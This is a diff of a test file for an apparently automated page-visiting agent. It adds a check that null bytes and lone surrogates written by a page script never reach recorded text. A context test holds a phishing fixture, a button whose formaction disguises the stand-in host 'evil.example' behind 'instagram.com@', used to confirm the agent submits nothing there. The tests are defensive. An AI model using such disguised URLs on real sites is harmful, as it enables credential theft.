@@ -210,6 +210,26 @@ it('takes its own profile among similar ones, and none of the buttons that take 
   expect(outcome).toMatchObject({ ok: true, passwordPosts: 1 });
 });
 
+it('sees nothing that the database could not hold, whatever a script writes into the page', async () => {
+  const seen: (string | null)[] = [];
+  await visit(
+    {
+      page: () => `<h2>Check your email</h2><p id="to"></p><input name="code" aria-label="Code"><button>Continue</button>
+        <script>document.getElementById('to').textContent = 'We sent it to m\\u0000***s@example.org \\ud800'</script>`,
+    },
+    {
+      onStep: async ({ outline, note }) => void seen.push(outline, note),
+      ask: async (question) => {
+        seen.push(JSON.stringify(question), question.sentTo);
+        return { kind: 'gave_up' };
+      },
+    },
+  );
+
+  expect(seen).toContain('m***s@example.org');
+  for (const text of seen) expect(text ?? '').not.toMatch(/\0|\\u0000|\\ud800/);
+});
+
 it('types nothing where a button outside of the form sends it elsewhere', async () => {
   const elsewhere = '<button form="login" formaction="https://instagram.com@evil.example/" type="submit">Go</button>';
   const { outcome, posts } = await visit({ page: () => `<form method="post" id="login">${FORM}</form>${elsewhere}` });
